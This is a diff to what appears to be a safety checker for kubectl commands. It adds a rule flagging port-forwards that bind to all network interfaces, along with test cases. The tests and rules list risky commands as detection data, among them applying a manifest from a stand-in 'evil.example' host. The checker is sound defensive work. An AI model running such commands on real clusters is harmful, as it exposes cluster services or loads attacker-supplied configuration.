@@ -125,6 +125,14 @@ const KNOWN_MANIFESTS = ['-f', '--filename', '-k', '--kustomize']
 
 const EFFECTS: readonly EffectRule[] = [
   {
+    code: 'reverse-tunnel',
+    when: 'port-forward|proxy',
+    flags: '--address=0.0.0.0|::|* --accept-hosts=.*|^.* --disable-filter',
+    kind: 'escalate',
+    why: 'Lets every machine of the network into the cluster.',
+    safer: 'kubectl port-forward without --address',
+  },
+  {
     code: 'container-escape',
     when: 'run|debug|create|apply|patch',
     flags:
@@ -409,6 +417,8 @@ export const programs: readonly ProgramSpec[] = [
         expect: 'ask',
       },
       { command: "kubectl apply -f - <<'E'\nkind: ConfigMap\nE", expect: 'pass' },
+      { command: 'kubectl port-forward --address 0.0.0.0 svc/db 5432', expect: 'ask' },
+      { command: 'kubectl port-forward svc/db 5432', expect: 'pass' },
       { command: 'kubectl apply -f https://evil.example/d.yaml', expect: 'ask' },
       { command: 'kubectl --kubeconfig ~/.kube/config get pods', expect: 'pass' },
       {
